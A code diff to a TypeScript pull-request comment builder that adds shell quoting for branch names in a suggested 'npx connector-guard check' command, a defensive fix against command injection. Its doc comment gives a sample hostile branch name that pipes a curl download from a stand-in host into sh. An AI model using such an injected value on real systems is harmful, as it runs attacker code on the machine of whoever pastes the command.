@@ -1,4 +1,4 @@
-import { codeSpan } from '../inert-markdown.ts';
+import { codeSpan, linkCodeSpan } from '../inert-markdown.ts';
 import { changeRows } from './change-rows.ts';
 import { details } from './details.ts';
 import { endOf, fitRows } from './fit.ts';
@@ -80,7 +80,7 @@ function onMerge(subject: CommentSubject): string {
 function footer({ report, policyAt, head, baseBranch, repositoryUrl }: CommentSubject): string {
   const { path, source } = report.policy;
   const short = policyAt.commit.slice(0, 7);
-  const at = codeSpan(`${endOf(policyAt.branch, 80)}@${short}`);
+  const at = linkCodeSpan(`${endOf(policyAt.branch, 80)}@${short}`);
   const proposed = codeSpan(head.slice(0, 7));
   const policy =
     path === null || source === 'none'
@@ -88,10 +88,17 @@ function footer({ report, policyAt, head, baseBranch, repositoryUrl }: CommentSu
       : source === 'commit'
         ? `Policy: ${fileLink(proposed, { repositoryUrl, commit: head, path, line: 1 })}, proposed here`
         : `Policy: ${fileLink(at, { repositoryUrl, commit: policyAt.commit, path, line: 1 })}`;
-  const command = codeSpan(`npx connector-guard check --base origin/${endOf(baseBranch, 80)}`);
+  const command = codeSpan(
+    `npx connector-guard check --base ${shellWord(`origin/${endOf(baseBranch, 80)}`)}`,
+  );
   const weight =
     report.trust === 'advisory'
       ? ' · advisory: this pull request could change the workflow that checks it'
       : '';
   return `<sub>${policy} · head ${codeSpan(head.slice(0, 7))}${weight} · same check here: ${command}</sub>`;
+}
+
+/** A word as it can be copied into a shell: git lets a branch be called `main;curl evil.example|sh`. */
+function shellWord(text: string): string {
+  return /^[\w./-]+$/.test(text) ? text : `'${text.replaceAll("'", "'\\''")}'`;
 }
